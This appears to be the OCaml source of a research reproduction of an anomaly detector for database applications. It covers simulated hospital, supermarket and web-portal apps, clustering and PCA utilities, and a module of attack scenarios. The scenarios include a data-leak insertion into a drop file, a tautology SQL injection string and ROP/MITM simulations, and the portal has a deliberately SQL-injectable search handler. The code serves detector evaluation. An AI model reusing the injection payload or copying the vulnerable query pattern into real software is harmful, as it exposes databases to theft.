          string_of_int (20 + Mlkit.Rng.int rng 50); "cardio" ]
    | 1 -> [ "1"; ""; "30"; "neuro" ] (* register, invalid name *)
    | 2 -> [ "2"; string_of_int (1000 + Mlkit.Rng.int rng 25) ] (* view, hit *)
    | 3 -> [ "2"; "9999" ] (* view, miss *)
    | 4 -> [ "3"; string_of_int (1000 + Mlkit.Rng.int rng 25) ] (* appointments *)
    | 5 -> [ "4"; string_of_int (1000 + Mlkit.Rng.int rng 25); "migraine" ]
    | 6 -> [ "5"; string_of_int (1000 + Mlkit.Rng.int rng 25); "y" ]
    | 7 -> [ "5"; string_of_int (1000 + Mlkit.Rng.int rng 25); "n" ]
    | _ -> [ "6" ]
  in
  List.init count (fun case ->
      let ops = 1 + Mlkit.Rng.int rng 4 in
      let script =
        List.concat (List.init ops (fun k -> op ((case + (k * 3)) mod 9))) @ [ "0" ]
      in
      Runtime.Testcase.make ~input:script ~seed:case (Printf.sprintf "hospital-%03d" case))

let app ?(cases = 63) () =
  {
    Adprom.Pipeline.name = "App_h (hospital)";
    source;
    dbms = "PostgreSQL";
    setup_db;
    test_cases = test_cases ~count:cases ~seed:7001;
  }

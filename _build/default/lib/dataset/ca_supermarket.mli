(** App_s of the CA-dataset: a supermarket management system over the
    MySQL-style API — the largest of the three client applications
    (Table III). Point-of-sale, inventory, restocking, pricing,
    supplier management and reporting. *)

val source : string

val app : ?cases:int -> unit -> Adprom.Pipeline.app
(** Default 36 test cases. *)

val test_cases : count:int -> seed:int -> Runtime.Testcase.t list

module Mutate = Attack.Mutate
module Scenario = Attack.Scenario

type case = {
  label : string;
  scenario : Scenario.t;
  app : Adprom.Pipeline.app;
}

(* Parse a statement list by wrapping it in a dummy function. *)
let parse_stmts src =
  let p = Applang.Parser.parse_program ("fun __attack__() {" ^ src ^ "}") in
  match p.Applang.Ast.funcs with
  | [ f ] -> f.Applang.Ast.body
  | _ -> assert false

let attack1 () =
  let inserted = parse_stmts {| printf("thank you, %s shopper\n", name); |} in
  {
    label = "Attack 1";
    app = Ca_supermarket.app ();
    scenario =
      {
        Scenario.id = "insert-similar-print";
        description =
          "a new printf of the item name is inserted into the regular receipt, \
           making its call sequence identical (unlabeled) to the member \
           receipt in the sibling branch; only the block id of the DB-output \
           label tells the two apart";
        vector =
          Scenario.Source_change
            (fun p -> Mutate.insert_in_function p ~func:"print_receipt" ~at:2 inserted);
      };
  }

let attack2 () =
  let inserted =
    parse_stmts
      {|
        let snoopstmt = pq_prepare(conn, "SELECT name, diagnosis FROM patients WHERE id = ?");
        let snoopres = pq_exec_prepared(conn, snoopstmt, pid);
        let snoopout = fopen("/tmp/drop.dat", "a");
        write(snoopout, pq_getvalue(snoopres, 0, 1));
        fclose(snoopout);
      |}
  in
  {
    label = "Attack 2";
    app = Ca_hospital.app ();
    scenario =
      {
        Scenario.id = "insert-exfil-other-function";
        description =
          "update_diagnosis (which never did output) starts re-querying the \
           patient record and writing it to a drop file";
        vector =
          Scenario.Source_change
            (fun p -> Mutate.insert_in_function p ~func:"update_diagnosis" ~at:4 inserted);
      };
  }

let attack3 () =
  {
    label = "Attack 3";
    app = Ca_supermarket.app ();
    scenario =
      {
        Scenario.id = "reuse-existing-print";
        description =
          "the receipt separator printf is reused: its arguments now print \
           the item name fetched from the DB — the call sequence is unchanged, \
           only the data flow differs";
        vector =
          Scenario.Source_change
            (fun p ->
              Mutate.rewrite_call_args p ~func:"print_receipt" ~callee:"printf"
                ~occurrence:0 (fun _ ->
                  [ Applang.Ast.Str "%s\n"; Applang.Ast.Var "name" ]));
      };
  }

let attack4 () =
  let app = Ca_supermarket.app () in
  (* Choose the injection point like the Dyninst attacker would: a
     labeled output site that the program actually reaches (probed by
     running a few test cases). *)
  let analysis = Adprom.Pipeline.analyze_app app in
  let labeled = analysis.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks in
  let probe_cases =
    List.filteri (fun i _ -> i < 10) app.Adprom.Pipeline.test_cases
  in
  let reached = Hashtbl.create 64 in
  List.iter
    (fun tc ->
      let trace, _ = Adprom.Pipeline.run_case ~analysis app tc in
      Array.iter
        (fun (e : Runtime.Collector.event) ->
          Hashtbl.replace reached e.Runtime.Collector.block ())
        trace)
    probe_cases;
  let block =
    match List.find_opt (Hashtbl.mem reached) labeled with
    | Some bid -> bid
    | None -> invalid_arg "attack4: no reachable labeled output site"
  in
  {
    label = "Attack 4";
    app;
    scenario =
      {
        Scenario.id = "binary-patch";
        description =
          Printf.sprintf
            "Dyninst-style patch: an fwrite leaking the targeted data is \
             spliced in after block %d" block;
        vector =
          Scenario.Binary_patch
            [
              {
                Runtime.Patch.position = Runtime.Patch.After_block block;
                calls = [ { Runtime.Patch.name = "fwrite"; leaks_td = true } ];
              };
            ];
      };
  }

let attack5 () =
  {
    label = "Attack 5";
    app = Ca_banking.app ();
    scenario =
      {
        Scenario.id = "tautology-sqli";
        description =
          "tautology injection (1' OR '1'='1) through the unprepared client \
           lookup harvests every client record";
        vector = Scenario.Malicious_input Ca_banking.poison_lookup;
      };
  }

let all () = [ attack1 (); attack2 (); attack3 (); attack4 (); attack5 () ]

(* --- the full Sec. III adversary model ----------------------------------- *)

let attack_1_1 () =
  {
    label = "Attack 1.1";
    app = Ca_banking.app ();
    scenario =
      {
        Scenario.id = "selectivity-widening";
        description =
          "Fig. 1: the lookup query's ID = is widened to ID >=, so the \
           existing print loop iterates over many records instead of one";
        vector =
          Scenario.Source_change
            (fun p ->
              Mutate.rewrite_strings p ~func:"lookup_client" (fun s ->
                  if s = "SELECT id, name, balance FROM clients WHERE id='" then
                    "SELECT id, name, balance FROM clients WHERE id>='"
                  else s));
      };
  }

let attack_1_3 () =
  {
    label = "Attack 1.3";
    app = Ca_hospital.app ();
    scenario =
      {
        Scenario.id = "reuse-file-store";
        description =
          "the existing audit-log call in view_patient is reused: its constant \
           argument is replaced with the patient's diagnosis, so the log file \
           receives targeted data";
        vector =
          Scenario.Source_change
            (fun p ->
              Mutate.rewrite_call_args p ~func:"view_patient" ~callee:"log_action"
                ~occurrence:0 (fun args ->
                  match args with
                  | [ _; id ] ->
                      [ Applang.Parser.parse_expr "pq_getvalue(res, 0, 4)"; id ]
                  | other -> other));
      };
  }

(* Gadget points for the code-reuse attacks: splice at a reachable
   labeled output site of the target, like attack4 does. *)
let reachable_labeled_block app =
  let analysis = Adprom.Pipeline.analyze_app app in
  let labeled = analysis.Analysis.Analyzer.taint.Analysis.Taint.labeled_blocks in
  let probe = List.filteri (fun i _ -> i < 10) app.Adprom.Pipeline.test_cases in
  let reached = Hashtbl.create 64 in
  List.iter
    (fun tc ->
      let trace, _ = Adprom.Pipeline.run_case ~analysis app tc in
      Array.iter
        (fun (e : Runtime.Collector.event) ->
          Hashtbl.replace reached e.Runtime.Collector.block ())
        trace)
    probe;
  match List.find_opt (Hashtbl.mem reached) labeled with
  | Some bid -> bid
  | None -> invalid_arg "no reachable labeled output site"

let attack_2_2 () =
  let app = Ca_banking.app () in
  let block = reachable_labeled_block app in
  {
    label = "Attack 2.2";
    app;
    scenario =
      {
        Scenario.id = "rop-gadget-chain";
        description =
          Printf.sprintf
            "ROP: the fopen/fwrite/fclose gadgets are chained after block %d \
             to dump the targeted data to a file" block;
        vector =
          Scenario.Binary_patch
            [
              {
                Runtime.Patch.position = Runtime.Patch.After_block block;
                calls =
                  [
                    { Runtime.Patch.name = "fopen"; leaks_td = false };
                    { Runtime.Patch.name = "fwrite"; leaks_td = true };
                    { Runtime.Patch.name = "fclose"; leaks_td = false };
                  ];
              };
            ];
      };
  }

let attack_3_2 () =
  {
    label = "Attack 3.2";
    app = Ca_banking.app ();
    scenario =
      {
        Scenario.id = "mitm-query-rewrite";
        description =
          "MITM on the unencrypted connection: every client-lookup query is \
           rewritten on the wire into a full-table harvest; the binary is \
           untouched";
        vector =
          Scenario.Mitm
            (fun sql ->
              if
                String.length sql >= 6
                && String.uppercase_ascii (String.sub sql 0 6) = "SELECT"
                && String.length sql > 30
                &&
                let probe = "FROM clients" in
                let n = String.length probe in
                let rec go i =
                  i + n <= String.length sql && (String.sub sql i n = probe || go (i + 1))
                in
                go 0
              then "SELECT id, name, balance FROM clients"
              else sql);
      };
  }

let attack_3_3 () =
  let app = Ca_supermarket.app () in
  let block = reachable_labeled_block app in
  {
    label = "Attack 3.3";
    app;
    scenario =
      {
        Scenario.id = "brop-stack-probe";
        description =
          Printf.sprintf
            "BROP: a burst of probing write calls at block %d, then the leak" block;
        vector =
          Scenario.Binary_patch
            [
              {
                Runtime.Patch.position = Runtime.Patch.Before_block block;
                calls =
                  List.init 4 (fun _ -> { Runtime.Patch.name = "write"; leaks_td = false })
                  @ [ { Runtime.Patch.name = "write"; leaks_td = true } ];
              };
            ];
      };
  }

let adversary_model () =
  [
    ("1.1 selectivity widening", attack_1_1 ());
    ("1.2 new store-to-file command", attack2 ());
    ("1.3 reuse store-to-file command", attack_1_3 ());
    ("2.1 binary patch (Dyninst)", attack4 ());
    ("2.2 return-oriented programming", attack_2_2 ());
    ("3.1 tautology SQL injection", attack5 ());
    ("3.2 man in the middle", attack_3_2 ());
    ("3.3 blind ROP", attack_3_3 ());
  ]

(** The SIR-dataset stand-ins (Table IV): grep-, gzip-, sed- and
    bash-like subject programs with generated test cases. The first
    three are hand-written AppLang programs mirroring the real tools'
    structure (argument parsing, a line-processing main loop, helper
    functions); the bash-scale one comes from {!Proggen}. None of them
    touch the DB — they exercise scale, loops and recursion, exactly
    what the paper uses SIR for. Test-case counts are scaled down from
    the paper's (809/214/370/1061) to keep a pure-OCaml run tractable;
    the benches print the actual counts. *)

val app1 : ?cases:int -> unit -> Adprom.Pipeline.app
(** grep-like: pattern matching over an input file with plain / count /
    invert / prefix modes. Default 120 cases. *)

val app2 : ?cases:int -> unit -> Adprom.Pipeline.app
(** gzip-like: run-length compress / decompress / stats. Default 80. *)

val app3 : ?cases:int -> unit -> Adprom.Pipeline.app
(** sed-like: substitute / delete / number over an input file.
    Default 100. *)

val app4 : ?cases:int -> ?spec:Proggen.spec -> unit -> Adprom.Pipeline.app
(** bash-scale generated program ({!Proggen.bash_like}). Default 300
    cases. *)

val all : unit -> (string * Adprom.Pipeline.app) list
(** [("App1", ...); ... ("App4", ...)] with default sizes. *)

val site_coverage :
  Analysis.Analyzer.t -> (Runtime.Testcase.t * Runtime.Collector.trace) list -> float
(** Fraction of static library-call sites exercised by the traces — the
    coverage figure reported in our Table IV (a stand-in for SIR's
    line/branch coverage, which needs source-line instrumentation we
    don't simulate). *)

let source =
  {|
// Customer-portal web application: a request loop dispatching to
// route handlers, PostgreSQL-style API underneath.
fun main() {
  let conn = db_connect("postgres");
  while (http_next_request()) {
    let path = http_path();
    if (strcmp(path, "/customer") == 0) {
      get_customer(conn);
    } else if (strcmp(path, "/search") == 0) {
      search_customers(conn);
    } else if (strcmp(path, "/order") == 0) {
      if (strcmp(http_method(), "POST") == 0) {
        create_order(conn);
      } else {
        http_respond(405, "method not allowed");
      }
    } else if (strcmp(path, "/report") == 0) {
      sales_report(conn);
    } else {
      http_respond(404, "not found");
    }
  }
  printf("server drained\n");
}

fun get_customer(conn) {
  let id = atoi(http_param("id"));
  let stmt = pq_prepare(conn, "SELECT id, name, email FROM customers WHERE id = ?");
  let res = pq_exec_prepared(conn, stmt, id);
  if (pq_ntuples(res) == 0) {
    http_respond(404, "no such customer");
    return;
  }
  http_respond(200, render_customer(res, 0));
}

fun render_customer(res, r) {
  let body = strcpy("{\"id\": ");
  body = strcat(body, pq_getvalue(res, r, 0));
  body = strcat(body, ", \"name\": \"");
  body = strcat(body, pq_getvalue(res, r, 1));
  body = strcat(body, "\", \"email\": \"");
  body = strcat(body, pq_getvalue(res, r, 2));
  body = strcat(body, "\"}");
  return body;
}

// VULNERABLE: the q parameter is concatenated into the LIKE pattern.
fun search_customers(conn) {
  let q = http_param("q");
  let sql = strcpy("SELECT id, name, email FROM customers WHERE name LIKE '%");
  sql = strcat(sql, q);
  sql = strcat(sql, "%'");
  let res = pq_exec(conn, sql);
  if (pq_result_status(res) != 0) {
    http_respond(400, "bad search");
    return;
  }
  let n = pq_ntuples(res);
  http_respond(200, strcat(to_string(n), " result(s)"));
  for (let r = 0; r < n; r = r + 1) {
    http_write(render_customer(res, r));
    http_write("\n");
  }
}

fun create_order(conn) {
  let customer = atoi(http_param("customer"));
  let amount = atoi(http_param("amount"));
  if (amount <= 0) {
    http_respond(400, "bad amount");
    return;
  }
  let check = pq_prepare(conn, "SELECT COUNT(*) FROM customers WHERE id = ?");
  let cres = pq_exec_prepared(conn, check, customer);
  if (atoi(pq_getvalue(cres, 0, 0)) == 0) {
    http_respond(404, "no such customer");
    return;
  }
  let idres = pq_exec(conn, "SELECT COUNT(*) FROM orders");
  let id = atoi(pq_getvalue(idres, 0, 0)) + 1;
  let stmt = pq_prepare(conn, "INSERT INTO orders (id, customer, amount) VALUES (?, ?, ?)");
  let ins = pq_exec_prepared(conn, stmt, id, customer, amount);
  log_request("order", id);
  http_respond(201, strcat("order ", to_string(id)));
}

fun sales_report(conn) {
  let count = pq_exec(conn, "SELECT COUNT(*) FROM orders");
  let volume = pq_exec(conn, "SELECT SUM(amount) FROM orders");
  let body = strcpy("orders=");
  body = strcat(body, pq_getvalue(count, 0, 0));
  body = strcat(body, " volume=");
  body = strcat(body, pq_getvalue(volume, 0, 0));
  http_respond(200, body);
  log_request("report", 0);
}

fun log_request(kind, id) {
  let f = fopen("portal.log", "a");
  fprintf(f, "%s %d\n", kind, id);
  fclose(f);
}
|}

let setup_db engine =
  let exec sql = ignore (Sqldb.Engine.exec engine sql) in
  exec "CREATE TABLE customers (id, name, email)";
  exec "CREATE TABLE orders (id, customer, amount)";
  for i = 1 to 25 do
    Printf.ksprintf exec
      "INSERT INTO customers VALUES (%d, 'member%02dq', 'c%d@example.org')" i i i
  done;
  for i = 1 to 15 do
    Printf.ksprintf exec "INSERT INTO orders VALUES (%d, %d, %d)" i
      (1 + (i mod 25))
      (20 + (i * 13 mod 200))
  done

let sessions ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let request i =
    match i with
    | 0 -> Runtime.Testcase.get ~params:[ ("id", string_of_int (1 + Mlkit.Rng.int rng 25)) ] "/customer"
    | 1 -> Runtime.Testcase.get ~params:[ ("id", "999") ] "/customer"
    | 2 ->
        Runtime.Testcase.get
          ~params:[ ("q", Printf.sprintf "member%02dq" (1 + Mlkit.Rng.int rng 25)) ]
          "/search"
    | 3 -> Runtime.Testcase.get ~params:[ ("q", "zebra") ] "/search" (* no hits *)
    | 4 ->
        Runtime.Testcase.post
          ~params:
            [ ("customer", string_of_int (1 + Mlkit.Rng.int rng 25));
              ("amount", string_of_int (10 + Mlkit.Rng.int rng 150)) ]
          "/order"
    | 5 -> Runtime.Testcase.post ~params:[ ("customer", "3"); ("amount", "0") ] "/order"
    | 6 -> Runtime.Testcase.get ~params:[ ("customer", "3") ] "/order" (* wrong method *)
    | 7 -> Runtime.Testcase.get "/report"
    | _ -> Runtime.Testcase.get "/favicon.ico" (* 404 *)
  in
  List.init count (fun case ->
      let n = 1 + Mlkit.Rng.int rng 5 in
      let requests = List.init n (fun k -> request ((case + (k * 3)) mod 9)) in
      Runtime.Testcase.make ~requests ~seed:case (Printf.sprintf "session-%03d" case))

let injection_session =
  Runtime.Testcase.make
    ~requests:[ Runtime.Testcase.get ~params:[ ("q", "%' OR '1'='1") ] "/search" ]
    "session-injection"

let app ?(cases = 60) () =
  {
    Adprom.Pipeline.name = "WebPortal (customer portal)";
    source;
    dbms = "PostgreSQL";
    setup_db;
    test_cases = sessions ~count:cases ~seed:9001;
  }

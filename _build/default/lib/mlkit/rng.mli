(** Deterministic, splittable pseudo-random number generator.

    All stochastic components of the reproduction (k-means++ seeding,
    random HMM initialization, synthetic anomaly generation, workload
    generation) draw from this generator so that every experiment is
    reproducible from a single integer seed. The implementation is
    splitmix64, which is adequate for simulation purposes. *)

type t

val create : int -> t
(** [create seed] returns a fresh generator. *)

val copy : t -> t
(** [copy t] duplicates the generator state. *)

val split : t -> t
(** [split t] advances [t] and returns an independent generator. *)

val int : t -> int -> int
(** [int t bound] returns a uniform integer in [\[0, bound)].
    @raise Invalid_argument if [bound <= 0]. *)

val float : t -> float -> float
(** [float t bound] returns a uniform float in [\[0, bound)]. *)

val bool : t -> bool

val pick : t -> 'a array -> 'a
(** [pick t arr] returns a uniformly chosen element.
    @raise Invalid_argument if [arr] is empty. *)

val shuffle : t -> 'a array -> unit
(** In-place Fisher-Yates shuffle. *)

val gaussian : t -> float
(** Standard normal deviate (Box-Muller). *)

val choose_weighted : t -> float array -> int
(** [choose_weighted t w] samples index [i] with probability
    [w.(i) / sum w]. Weights must be non-negative with positive sum. *)

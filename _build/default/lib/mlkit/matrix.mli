(** Dense float matrices.

    A small, self-contained linear-algebra kernel sufficient for the
    PCA/K-means reduction pipeline and the HMM parameter matrices. *)

type t = { rows : int; cols : int; data : float array }
(** Row-major storage; element [(i, j)] lives at [data.(i * cols + j)]. *)

val create : int -> int -> t
(** Zero-filled [rows x cols] matrix. *)

val init : int -> int -> (int -> int -> float) -> t

val identity : int -> t

val of_arrays : float array array -> t
(** @raise Invalid_argument on ragged or empty input. *)

val to_arrays : t -> float array array

val get : t -> int -> int -> float
val set : t -> int -> int -> float -> unit
val dims : t -> int * int
val copy : t -> t
val row : t -> int -> float array
val col : t -> int -> float array
val transpose : t -> t
val mul : t -> t -> t
val add : t -> t -> t
val sub : t -> t -> t
val scale : float -> t -> t
val mul_vec : t -> float array -> float array

val map : (float -> float) -> t -> t
val equal : ?eps:float -> t -> t -> bool

val row_sums : t -> float array
val col_sums : t -> float array

val normalize_rows : t -> t
(** Divide each row by its sum; rows summing to zero become uniform. *)

val frobenius : t -> float

val pp : Format.formatter -> t -> unit

type result = {
  assignment : int array;
  centroids : Matrix.t;
  inertia : float;
  iterations : int;
}

let squared_distance a b =
  let acc = ref 0.0 in
  for i = 0 to Array.length a - 1 do
    let d = a.(i) -. b.(i) in
    acc := !acc +. (d *. d)
  done;
  !acc

(* k-means++: the first centroid is uniform; each next one is sampled
   proportionally to the squared distance to the closest chosen centroid. *)
let seed_centroids rng k rows =
  let n = Array.length rows in
  let chosen = ref [ rows.(Rng.int rng n) ] in
  let dist_to_chosen p =
    List.fold_left (fun acc c -> Float.min acc (squared_distance p c)) Float.max_float !chosen
  in
  while List.length !chosen < k do
    let weights = Array.map dist_to_chosen rows in
    let total = Array.fold_left ( +. ) 0.0 weights in
    let idx = if total <= 0.0 then Rng.int rng n else Rng.choose_weighted rng weights in
    chosen := rows.(idx) :: !chosen
  done;
  Array.of_list (List.rev !chosen)

let cluster ~rng ~k data =
  let n, dim = Matrix.dims data in
  if k <= 0 then invalid_arg "Kmeans.cluster: k must be positive";
  if n = 0 then invalid_arg "Kmeans.cluster: no observations";
  let rows = Array.init n (Matrix.row data) in
  let k = min k n in
  let centroids = ref (seed_centroids rng k rows) in
  let assignment = Array.make n 0 in
  let assign () =
    let changed = ref false in
    for i = 0 to n - 1 do
      let dists = Array.map (fun c -> squared_distance rows.(i) c) !centroids in
      let best = Stats.argmin dists in
      if assignment.(i) <> best then begin
        assignment.(i) <- best;
        changed := true
      end
    done;
    !changed
  in
  let recompute () =
    let k' = Array.length !centroids in
    let sums = Array.init k' (fun _ -> Array.make dim 0.0) in
    let counts = Array.make k' 0 in
    for i = 0 to n - 1 do
      let c = assignment.(i) in
      counts.(c) <- counts.(c) + 1;
      for j = 0 to dim - 1 do
        sums.(c).(j) <- sums.(c).(j) +. rows.(i).(j)
      done
    done;
    Array.iteri
      (fun c count ->
        if count > 0 then
          !centroids.(c) <- Array.map (fun s -> s /. float_of_int count) sums.(c))
      counts
  in
  let iterations = ref 0 in
  let max_iterations = 200 in
  ignore (assign ());
  let continue = ref true in
  while !continue && !iterations < max_iterations do
    incr iterations;
    recompute ();
    continue := assign ()
  done;
  (* Compact away empty clusters so downstream code sees a dense range. *)
  let used = Array.make (Array.length !centroids) false in
  Array.iter (fun c -> used.(c) <- true) assignment;
  let remap = Array.make (Array.length !centroids) (-1) in
  let next = ref 0 in
  Array.iteri
    (fun c u ->
      if u then begin
        remap.(c) <- !next;
        incr next
      end)
    used;
  let kept = Array.of_list (List.filteri (fun c _ -> used.(c)) (Array.to_list !centroids)) in
  let assignment = Array.map (fun c -> remap.(c)) assignment in
  let inertia =
    let acc = ref 0.0 in
    for i = 0 to n - 1 do
      acc := !acc +. squared_distance rows.(i) kept.(assignment.(i))
    done;
    !acc
  in
  { assignment; centroids = Matrix.of_arrays kept; inertia; iterations = !iterations }

let cluster_members r =
  let k, _ = Matrix.dims r.centroids in
  let buckets = Array.make k [] in
  Array.iteri (fun i c -> buckets.(c) <- i :: buckets.(c)) r.assignment;
  Array.map (fun l -> Array.of_list (List.rev l)) buckets

type t = { mutable state : int64 }

let golden_gamma = 0x9E3779B97F4A7C15L

let create seed = { state = Int64.of_int seed }

let copy t = { state = t.state }

(* splitmix64 step: advance the state and mix the result. *)
let next_int64 t =
  t.state <- Int64.add t.state golden_gamma;
  let z = t.state in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let split t =
  let seed = next_int64 t in
  { state = seed }

let int t bound =
  if bound <= 0 then invalid_arg "Rng.int: bound must be positive";
  (* Keep 62 bits so the conversion to OCaml's 63-bit int stays
     non-negative. *)
  let r = Int64.to_int (Int64.shift_right_logical (next_int64 t) 2) in
  r mod bound

let float t bound =
  let r = Int64.to_float (Int64.shift_right_logical (next_int64 t) 11) in
  bound *. (r /. 9007199254740992.0 (* 2^53 *))

let bool t = Int64.logand (next_int64 t) 1L = 1L

let pick t arr =
  if Array.length arr = 0 then invalid_arg "Rng.pick: empty array";
  arr.(int t (Array.length arr))

let shuffle t arr =
  for i = Array.length arr - 1 downto 1 do
    let j = int t (i + 1) in
    let tmp = arr.(i) in
    arr.(i) <- arr.(j);
    arr.(j) <- tmp
  done

let gaussian t =
  let u1 = max 1e-12 (float t 1.0) in
  let u2 = float t 1.0 in
  sqrt (-2.0 *. log u1) *. cos (2.0 *. Float.pi *. u2)

let choose_weighted t w =
  let total = Array.fold_left ( +. ) 0.0 w in
  if total <= 0.0 then invalid_arg "Rng.choose_weighted: weights must sum to a positive value";
  let target = float t total in
  let n = Array.length w in
  let rec loop i acc =
    if i >= n - 1 then n - 1
    else
      let acc = acc +. w.(i) in
      if target < acc then i else loop (i + 1) acc
  in
  loop 0 0.0

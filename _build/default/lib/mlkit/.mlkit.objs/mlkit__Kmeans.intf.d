lib/mlkit/kmeans.mli: Matrix Rng

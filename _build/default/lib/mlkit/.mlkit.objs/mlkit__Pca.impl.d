lib/mlkit/pca.ml: Array Float Matrix

lib/mlkit/matrix.ml: Array Float Format

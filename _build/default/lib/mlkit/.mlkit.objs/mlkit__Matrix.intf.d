lib/mlkit/matrix.mli: Format

lib/mlkit/kmeans.ml: Array Float List Matrix Rng Stats

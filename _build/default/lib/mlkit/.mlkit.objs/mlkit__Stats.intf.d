lib/mlkit/stats.mli:

lib/mlkit/stats.ml: Array Float

lib/mlkit/rng.ml: Array Float Int64

lib/mlkit/pca.mli: Matrix

lib/mlkit/rng.mli:

type model = {
  mean : float array;
  components : Matrix.t;
  eigenvalues : float array;
}

(* Cyclic Jacobi rotations: repeatedly zero the largest off-diagonal
   element until the off-diagonal mass is negligible. *)
let jacobi_eigen m =
  let n, cols = Matrix.dims m in
  if n <> cols then invalid_arg "Pca.jacobi_eigen: matrix must be square";
  let a = Matrix.to_arrays m in
  let v = Matrix.to_arrays (Matrix.identity n) in
  let off_diagonal_mass () =
    let acc = ref 0.0 in
    for i = 0 to n - 1 do
      for j = i + 1 to n - 1 do
        acc := !acc +. (a.(i).(j) *. a.(i).(j))
      done
    done;
    !acc
  in
  let rotate p q =
    if Float.abs a.(p).(q) > 1e-14 then begin
      let theta = (a.(q).(q) -. a.(p).(p)) /. (2.0 *. a.(p).(q)) in
      let t =
        let sign = if theta >= 0.0 then 1.0 else -1.0 in
        sign /. (Float.abs theta +. sqrt ((theta *. theta) +. 1.0))
      in
      let c = 1.0 /. sqrt ((t *. t) +. 1.0) in
      let s = t *. c in
      for k = 0 to n - 1 do
        let akp = a.(k).(p) and akq = a.(k).(q) in
        a.(k).(p) <- (c *. akp) -. (s *. akq);
        a.(k).(q) <- (s *. akp) +. (c *. akq)
      done;
      for k = 0 to n - 1 do
        let apk = a.(p).(k) and aqk = a.(q).(k) in
        a.(p).(k) <- (c *. apk) -. (s *. aqk);
        a.(q).(k) <- (s *. apk) +. (c *. aqk)
      done;
      for k = 0 to n - 1 do
        let vkp = v.(k).(p) and vkq = v.(k).(q) in
        v.(k).(p) <- (c *. vkp) -. (s *. vkq);
        v.(k).(q) <- (s *. vkp) +. (c *. vkq)
      done
    end
  in
  let max_sweeps = 100 in
  let sweep = ref 0 in
  while off_diagonal_mass () > 1e-18 && !sweep < max_sweeps do
    incr sweep;
    for p = 0 to n - 1 do
      for q = p + 1 to n - 1 do
        rotate p q
      done
    done
  done;
  let order = Array.init n (fun i -> i) in
  Array.sort (fun i j -> compare a.(j).(j) a.(i).(i)) order;
  let values = Array.map (fun i -> a.(i).(i)) order in
  (* Eigenvectors as rows: row r of the result is the eigenvector for
     [values.(r)], i.e. column [order.(r)] of the accumulated rotations. *)
  let vectors = Matrix.init n n (fun r c -> v.(c).(order.(r))) in
  (values, vectors)

let covariance data mean =
  let rows, cols = Matrix.dims data in
  let cov = Matrix.create cols cols in
  let denom = float_of_int (max 1 (rows - 1)) in
  for i = 0 to rows - 1 do
    for a = 0 to cols - 1 do
      let da = Matrix.get data i a -. mean.(a) in
      if da <> 0.0 then
        for b = a to cols - 1 do
          let db = Matrix.get data i b -. mean.(b) in
          Matrix.set cov a b (Matrix.get cov a b +. (da *. db))
        done
    done
  done;
  Matrix.init cols cols (fun a b ->
      let a', b' = if a <= b then (a, b) else (b, a) in
      Matrix.get cov a' b' /. denom)

let fit ?(variance_kept = 0.95) ?max_components data =
  let rows, cols = Matrix.dims data in
  if rows = 0 then invalid_arg "Pca.fit: no observations";
  let mean = Array.init cols (fun j -> Array.fold_left ( +. ) 0.0 (Matrix.col data j) /. float_of_int rows) in
  let values, vectors = jacobi_eigen (covariance data mean) in
  let total = Array.fold_left (fun acc x -> acc +. Float.max 0.0 x) 0.0 values in
  let cap = match max_components with Some c -> min c cols | None -> cols in
  let keep =
    if total <= 0.0 then 1
    else begin
      let acc = ref 0.0 and k = ref 0 in
      while !k < cap && !acc < variance_kept *. total do
        acc := !acc +. Float.max 0.0 values.(!k);
        incr k
      done;
      max 1 !k
    end
  in
  {
    mean;
    components = Matrix.init keep cols (fun i j -> Matrix.get vectors i j);
    eigenvalues = Array.sub values 0 keep;
  }

let transform model data =
  let rows, cols = Matrix.dims data in
  if cols <> Array.length model.mean then invalid_arg "Pca.transform: dimension mismatch";
  let k, _ = Matrix.dims model.components in
  Matrix.init rows k (fun i c ->
      let acc = ref 0.0 in
      for j = 0 to cols - 1 do
        acc := !acc +. ((Matrix.get data i j -. model.mean.(j)) *. Matrix.get model.components c j)
      done;
      !acc)

let fit_transform ?variance_kept ?max_components data =
  let model = fit ?variance_kept ?max_components data in
  (model, transform model data)

let explained_variance_ratio model =
  let total = Array.fold_left (fun acc x -> acc +. Float.max 0.0 x) 0.0 model.eigenvalues in
  if total <= 0.0 then Array.map (fun _ -> 0.0) model.eigenvalues
  else Array.map (fun x -> Float.max 0.0 x /. total) model.eigenvalues

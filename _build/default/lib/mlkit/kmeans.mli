(** K-means clustering with k-means++ seeding.

    Used to merge system calls whose call-transition vectors are similar
    into a single HMM hidden state (Sec. IV-C4). The algorithm is
    deterministic given the [Rng.t] seed. *)

type result = {
  assignment : int array;  (** cluster index of each observation *)
  centroids : Matrix.t;  (** one centroid per row *)
  inertia : float;  (** sum of squared distances to assigned centroids *)
  iterations : int;
}

val cluster : rng:Rng.t -> k:int -> Matrix.t -> result
(** [cluster ~rng ~k data] clusters the rows of [data] into at most [k]
    groups. If [k] exceeds the number of distinct rows, the effective
    number of clusters may be smaller; empty clusters are dropped and
    indices compacted, so [assignment] always targets a dense range.
    @raise Invalid_argument if [k <= 0] or [data] has no rows. *)

val cluster_members : result -> int array array
(** [cluster_members r] lists observation indices per cluster. *)

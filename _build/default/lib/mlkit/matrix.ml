type t = { rows : int; cols : int; data : float array }

let create rows cols =
  if rows < 0 || cols < 0 then invalid_arg "Matrix.create: negative dimension";
  { rows; cols; data = Array.make (rows * cols) 0.0 }

let init rows cols f =
  let m = create rows cols in
  for i = 0 to rows - 1 do
    for j = 0 to cols - 1 do
      m.data.((i * cols) + j) <- f i j
    done
  done;
  m

let identity n = init n n (fun i j -> if i = j then 1.0 else 0.0)

let of_arrays arrays =
  let rows = Array.length arrays in
  if rows = 0 then invalid_arg "Matrix.of_arrays: empty";
  let cols = Array.length arrays.(0) in
  Array.iter
    (fun r -> if Array.length r <> cols then invalid_arg "Matrix.of_arrays: ragged rows")
    arrays;
  init rows cols (fun i j -> arrays.(i).(j))

let to_arrays m = Array.init m.rows (fun i -> Array.init m.cols (fun j -> m.data.((i * m.cols) + j)))

let get m i j =
  if i < 0 || i >= m.rows || j < 0 || j >= m.cols then invalid_arg "Matrix.get: out of bounds";
  m.data.((i * m.cols) + j)

let set m i j v =
  if i < 0 || i >= m.rows || j < 0 || j >= m.cols then invalid_arg "Matrix.set: out of bounds";
  m.data.((i * m.cols) + j) <- v

let dims m = (m.rows, m.cols)

let copy m = { m with data = Array.copy m.data }
